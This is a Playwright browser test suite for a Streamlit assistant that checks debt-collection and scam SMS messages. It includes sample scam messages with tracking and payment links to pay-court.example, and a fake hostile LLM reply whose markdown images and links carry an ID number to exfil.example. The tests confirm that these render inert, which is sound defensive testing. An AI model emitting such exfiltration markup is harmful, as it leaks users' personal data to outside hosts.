"""The real app in a real browser: `streamlit run app.py` driven by headless Chromium (Playwright).

One Streamlit server per module, on a free loopback port, over a fresh index built from a copy of
corpus/ in a temp dir (the embedding cache in ~/.cache/yuqi makes the build fast on a second run).
Screenshots go to test-artifacts/browser-*.png. Skipped when /usr/bin/chromium is missing
(`scripts/test` installs it with apt: chromium fonts-noto-cjk).
"""

from __future__ import annotations

import os
import re
import shutil
import subprocess
import sys
import time
from contextlib import contextmanager
from pathlib import Path

import pytest

from browser_helpers import (
    ANSWER_TIMEOUT, CHROMIUM, CHROMIUM_ARGS, ask, assert_no_traceback, body_text, chat_messages, free_port, go_to,
    links_and_images_to, open_sources, shot, source_summaries, stop, wait_healthy, wait_idle,
)
from conftest import ROOT, copy_corpus

from yuqi.textnorm import cjk_count

pytestmark = [pytest.mark.browser, pytest.mark.model]  # the served app loads the real embedding model
if not CHROMIUM.exists():
    pytest.skip("/usr/bin/chromium not found (apt-get install chromium fonts-noto-cjk)", allow_module_level=True)
pytest.importorskip("playwright.sync_api", reason="playwright (Python package) is not installed")
from playwright.sync_api import expect, sync_playwright  # noqa: E402

SMS = "【XX金融】您已逾期，我司已向法院提交诉前财产保全申请，明日冻结您名下所有账户，请今日18点前转账至 6222 0212 3456 7890 123 户名：王强"
STATUTE = (
    "# 测试借贷管理办法\n\n"
    "第一条 网络借贷平台催收时不得在晚上十点后拨打借款人电话。\n\n"
    "第二条 网络借贷平台不得向借款人的家属、同事等第三人催收，不得冒充司法机关发送催收短信。\n"
)
TIMINGS: dict[str, float] = {}


@pytest.fixture(scope="module")
def served(tmp_path_factory):
    """(base dir, environment) of a fresh index built from a copy of corpus/, offline."""
    t0 = time.monotonic()
    base = tmp_path_factory.mktemp("browser")
    env = {
        **os.environ,
        "YUQI_CORPUS_DIR": str(copy_corpus(base / "corpus")),
        "YUQI_INDEX_DIR": str(base / "index"),
        "YUQI_DATA_DIR": str(base / "data"),
        "HF_HUB_OFFLINE": "1",
        "PYTHONUNBUFFERED": "1",
        "PYTHONPATH": str(ROOT),  # with cwd=ROOT: the server imports this checkout's code, not an installed copy
    }
    for var in ("OPENAI_API_KEY", "OPENAI_BASE_URL", "OPENAI_MODEL", "YUQI_LLM_MODEL"):
        env.pop(var, None)  # offline mode: never a real LLM
    build = subprocess.run([sys.executable, "-m", "ingest", "build"], cwd=ROOT, env=env,
                           capture_output=True, text=True, timeout=600)
    assert build.returncode == 0, build.stdout[-2000:] + build.stderr[-2000:]
    TIMINGS["build index"] = time.monotonic() - t0
    yield base, env
    print("\n[browser] timings: " + ", ".join(f"{k} {v:.1f}s" for k, v in TIMINGS.items()))
    shutil.rmtree(base, ignore_errors=True)


@contextmanager
def streamlit_server(base: Path, env: dict, name: str):
    t1 = time.monotonic()
    port = free_port()
    log_path = base / f"streamlit-{name}.log"
    log = log_path.open("w")
    proc = subprocess.Popen(
        [sys.executable, "-m", "streamlit", "run", "app.py", "--server.headless", "true", "--server.port", str(port),
         "--server.address", "127.0.0.1", "--browser.gatherUsageStats", "false", "--server.fileWatcherType", "none"],
        cwd=ROOT, env=env, stdout=log, stderr=subprocess.STDOUT, start_new_session=True,
    )
    url = f"http://127.0.0.1:{port}"
    try:
        wait_healthy(url, proc, timeout=120)
        TIMINGS[f"server {name} healthy"] = time.monotonic() - t1
        yield url
    finally:
        stop(proc)
        log.close()
        server_log = log_path.read_text(errors="replace")
        if "Traceback" in server_log:
            print(f"[browser] server {name} log contains a traceback:\n" + server_log[-4000:])


@pytest.fixture(scope="module")
def app_url(served):
    with streamlit_server(*served, "offline") as url:
        yield url


@pytest.fixture(scope="module")
def browser(app_url):
    with sync_playwright() as p:
        b = p.chromium.launch(executable_path=str(CHROMIUM), headless=True, args=CHROMIUM_ARGS)
        yield b
        b.close()


def _open_app(browser, app_url, request, **context_options):
    """A fresh browser context on the app, ready for input; every request it makes is recorded."""
    t0 = time.monotonic()
    context = browser.new_context(locale="zh-CN", **context_options)
    context.set_default_timeout(30_000)
    requested: list[str] = []
    context.on("request", lambda r: requested.append(r.url))
    pg = context.new_page()
    pg.requested = requested
    pg.goto(app_url, wait_until="domcontentloaded")
    # first visit loads the model and index through st.cache_resource: allow for it
    expect(pg.get_by_role("heading", name="逾期催收信息核实助手")).to_be_visible(timeout=120_000)
    expect(pg.get_by_test_id("stChatInputTextArea")).to_be_visible(timeout=ANSWER_TIMEOUT)
    wait_idle(pg)
    try:
        yield pg
    finally:
        context.close()
        TIMINGS[request.node.name.removeprefix("test_")] = time.monotonic() - t0


@pytest.fixture()
def page(browser, app_url, request):
    yield from _open_app(browser, app_url, request, viewport={"width": 1280, "height": 900})


@pytest.fixture()
def phone(browser, app_url, request):
    """A 390 px wide phone screen (iPhone 12/13/14 size), touch, zh-CN."""
    yield from _open_app(browser, app_url, request, viewport={"width": 390, "height": 844}, device_scale_factor=2,
                         is_mobile=True, has_touch=True)


def last_assistant_text(page) -> str:
    return chat_messages(page).last.inner_text()


def answer_text(turn) -> str:
    """The answer itself: the direct answer and its sections' text (sections are collapsed, so read the DOM)."""
    return turn.locator(".yuqi-md").evaluate_all("els => els.map(e => e.textContent).join('\\n')")


SCAM_HOST = "pay-court.example"
SCAM_SMS_LINK = (
    "【XX法院】您的网贷欠款已立案，今日18点前不处理将冻结名下所有账户，请点击 http://pay-court.example/case?u=13912345678 缴纳诉讼费。\n\n"
    "![](//pay-court.example/track.png?u=victim)\n\n[付款](//pay-court.example/pay)"
)


def test_scam_sms_on_a_phone_is_inert_and_the_verdict_is_in_view(phone):
    ask(phone, SCAM_SMS_LINK)
    assert_no_traceback(phone)
    badge = phone.locator('span[data-testid="verdict-badge"]').last
    expect(badge).to_be_visible()
    assert badge.get_attribute("data-verdict") == "scam", badge.get_attribute("data-verdict")
    # after the answer the screen shows the verdict, not the sources at the bottom
    expect(badge).to_be_in_viewport()
    path = shot(phone, "phone-sms")  # the phone's first view after the answer: the README screenshot
    (ROOT / "docs").mkdir(exist_ok=True)
    shutil.copyfile(path, ROOT / "docs" / "screenshot.png")
    # open every collapsed section, so whatever it holds is in the DOM too
    for summary in chat_messages(phone).last.locator('[data-testid="stExpander"] summary').all():
        summary.click()
    phone.wait_for_timeout(500)
    assert links_and_images_to(phone, SCAM_HOST) == []
    assert not [u for u in phone.requested if SCAM_HOST in u], "the browser contacted the message's host"
    assert SCAM_HOST in body_text(phone)  # shown as text a person can read, not as a link
    # the page fits the phone: nothing forces a horizontal scroll
    assert phone.evaluate("document.documentElement.scrollWidth") <= 390 + 1


COURT_NOTICE = ("【深圳市福田区人民法院】张三，您好：原告某某消费金融有限公司诉你借款合同纠纷一案，案号（2025）粤0304民初12345号，"
                "已立案。请登录人民法院在线服务 zxfw.court.gov.cn 查看起诉状副本及应诉材料，开庭时间2025年8月20日9时30分。")


def first_screen_before_expanders(phone, words: tuple[str, ...], name: str) -> None:
    """The badge, then the decisive actions, on screen and above the first (closed) section of this answer."""
    turn = chat_messages(phone).last
    badge = turn.locator('span[data-testid="verdict-badge"]')
    expect(badge).to_be_in_viewport()
    first_fold = turn.locator('[data-testid="stExpander"]').first.bounding_box()
    for w in words:
        item = turn.locator(".yuqi-md li").filter(has_text=w).first
        expect(item).to_be_visible()  # nothing to open first
        box = item.bounding_box()
        assert box["y"] < first_fold["y"], (w, box, first_fold)
    assert turn.locator('[data-testid="stExpander"] details[open]').count() == 0  # the rest stays folded
    shot(phone, name)


def test_a_scam_on_a_phone_shows_the_actions_before_anything_folded(phone):
    ask(phone, SCAM_SMS_LINK)
    assert_no_traceback(phone)
    first_screen_before_expanders(phone, ("不要转账", "110", "96110"), "phone-first-scam")


def test_a_court_notice_on_a_phone_says_answer_it_and_names_the_court(phone):
    ask(phone, COURT_NOTICE)
    assert_no_traceback(phone)
    turn = chat_messages(phone).last
    assert turn.locator('span[data-testid="verdict-badge"]').get_attribute("data-verdict") == "plausible"
    first_screen_before_expanders(phone, ("不要置之不理", "15 日"), "phone-first-court")
    assert "深圳市福田区人民法院" in turn.locator(".yuqi-md").first.inner_text()


def test_a_follow_up_gets_a_different_shorter_answer(phone):
    ask(phone, SCAM_SMS_LINK)
    first = answer_text(chat_messages(phone).last)
    ask(phone, "那我该怎么核实是不是真的立案了？")
    assert_no_traceback(phone)
    second = answer_text(chat_messages(phone).last)
    assert second.strip() and second != first
    assert len(second) < len(first), (len(second), len(first))
    assert links_and_images_to(phone, SCAM_HOST) == []


def test_example_buttons_fill_the_input(phone):
    buttons = phone.get_by_role("button").filter(has_text=re.compile("^[📩❓]"))
    expect(buttons.first).to_be_visible()
    assert buttons.count() == 3
    buttons.nth(2).click()
    wait_idle(phone)
    box = phone.get_by_test_id("stChatInputTextArea")
    expect(box).to_have_value(re.compile("坐牢"))
    assert_no_traceback(phone)


def test_question_gets_answer_with_titled_sources(page):
    ask(page, "催收骚扰我的家人违法吗")
    answer = last_assistant_text(page)
    assert re.search(r"结论|违法|不", answer.split("为什么")[0]), answer[:800]  # a direct answer before the sections
    summary = source_summaries(page).last
    expect(summary).to_be_visible()
    sources = open_sources(page, summary)
    assert "治安管理处罚法" in sources or "民法典" in sources or "个人信息保护法" in sources, sources[:1500]
    titles = re.findall(r"\[(\d+)\] (.+)", sources)
    assert titles and all("《" in t or not re.search(r"[0-9a-f]{16}", t) for _, t in titles), titles
    assert not re.search(r"[0-9a-f]{16}|原文第 \d+", sources), sources[:1500]  # no hash ids, no offsets
    assert not re.search(r"(?m)^\s*(#{1,6} |- )", sources), sources[:1500]  # no raw Markdown marks
    assert cjk_count(sources) >= 40
    assert_no_traceback(page)
    shot(page, "question")


def test_uploaded_statute_is_found_and_cited(page, tmp_path):
    doc = tmp_path / "测试借贷管理办法.md"
    doc.write_text(STATUTE, encoding="utf-8")
    count_before = page.get_by_test_id("stSidebar").inner_text()
    go_to(page, "导入文档")
    expect(page.get_by_role("heading", name="导入文档")).to_be_visible()
    page.locator('[data-testid="stFileUploader"] input[type="file"]').set_input_files(str(doc))
    expect(page.get_by_test_id("stFileUploader").get_by_text(doc.name)).to_be_visible()
    button = page.get_by_role("button", name="导入", exact=True)
    expect(button).to_be_enabled()
    button.click()
    expect(page.get_by_text(re.compile("索引已更新"))).to_be_visible(timeout=120_000)
    wait_idle(page)
    assert_no_traceback(page)
    docs = lambda text: int(re.search(r"索引：(\d+) 篇文档", text).group(1))  # noqa: E731
    assert docs(page.get_by_test_id("stSidebar").inner_text()) == docs(count_before) + 1
    shot(page, "ingest")

    go_to(page, "问答与短信核实")
    expect(page.get_by_test_id("stChatInputTextArea")).to_be_visible()
    ask(page, "晚上十点以后还能打催收电话吗")
    sources = open_sources(page, source_summaries(page).last)
    assert "《测试借贷管理办法》" in sources, sources[:1500]
    assert_no_traceback(page)


def test_eval_page_opens_with_the_sidebar(page):
    go_to(page, "评测")
    expect(page.get_by_role("heading", name="评测").first).to_be_visible()
    expect(page.get_by_test_id("stSidebar").get_by_text(re.compile("索引："))).to_be_visible()
    assert_no_traceback(page)


def test_empty_and_long_input_never_show_a_traceback(page):
    before = chat_messages(page).count()
    ask(page, "   ", expect_reply=False)
    page.wait_for_timeout(800)  # settle: the input may be ignored by the widget, or answered with a warning
    wait_idle(page)
    if chat_messages(page).count() > before:
        expect(page.get_by_text("请输入您的问题")).to_be_visible()
    assert_no_traceback(page)
    long_text = ("催收天天打电话骚扰我。" * 500)[:5000]
    ask(page, long_text)
    expect(page.get_by_text(re.compile("输入过长")).first).to_be_visible()
    assert_no_traceback(page)


EXFIL_HOST = "exfil.example"
ID_NUMBER = "110101199003071234"
HOSTILE_LLM_REPLY = (
    "**结论：这条信息有诈骗特征**，不要转账。测试回答甲。\n\n"
    f"![核验](http://{EXFIL_HOST}/check.png?id={ID_NUMBER}&name=王强)\n\n"
    f'<img src="http://{EXFIL_HOST}/raw.png"> <a href="http://{EXFIL_HOST}/a">原始链接</a>\n\n'
    f"[查看详情](//{EXFIL_HOST}/detail?id={ID_NUMBER})\n\n"
    "可登录征信中心官网（www.pbccrc.org.cn）查询本人信用报告。"
)


@pytest.fixture(scope="module")
def llm_app_url(served):
    """The same app answering through a local OpenAI-compatible server whose answer tries to exfiltrate."""
    from fake_openai import FakeOpenAI

    base, env = served
    with FakeOpenAI(HOSTILE_LLM_REPLY) as fake:
        llm_env = {**env, "OPENAI_BASE_URL": fake.base_url, "OPENAI_API_KEY": "sk-test", "YUQI_LLM_MODEL": "fake-model",
                   "YUQI_DATA_DIR": str(base / "data-llm")}
        with streamlit_server(base, llm_env, "llm") as url:
            yield url


def test_llm_answer_renders_no_remote_image_raw_html_or_foreign_link(browser, llm_app_url):
    context = browser.new_context(viewport={"width": 390, "height": 844}, is_mobile=True, has_touch=True, locale="zh-CN")
    context.set_default_timeout(30_000)
    requested: list[str] = []
    context.on("request", lambda r: requested.append(r.url))
    pg = context.new_page()
    try:
        pg.goto(llm_app_url, wait_until="domcontentloaded")
        expect(pg.get_by_test_id("stChatInputTextArea")).to_be_visible(timeout=ANSWER_TIMEOUT)
        wait_idle(pg)
        ask(pg, f"【XX金融】王强（身份证 {ID_NUMBER}）您已逾期，请今日转账至 6222 0212 3456 7890 123，否则起诉。")
        assert_no_traceback(pg)
        turn = chat_messages(pg).last
        for summary in turn.locator('[data-testid="stExpander"] summary').all():
            summary.click()
        pg.wait_for_timeout(800)
        text = turn.inner_text()
        if "测试回答甲" not in text:  # the answer path may withdraw such an answer for the offline one: still inert
            print("\n[browser] the LLM answer was withdrawn by the answer path; checking the offline answer instead")
        assert links_and_images_to(pg, EXFIL_HOST) == []
        assert not [u for u in requested if EXFIL_HOST in u], "the browser contacted the host named in the LLM answer"
        assert pg.locator(f'[data-testid="stChatMessage"] img[src*="{EXFIL_HOST}"]').count() == 0
        if "测试回答甲" in text:
            official = turn.locator('a[href^="https://www.pbccrc.org.cn"]')
            assert official.count() == 1 and official.first.inner_text() == "www.pbccrc.org.cn"
            assert "）查询本人信用报告" in text
        shot(pg, "llm-inert")
    finally:
        context.close()
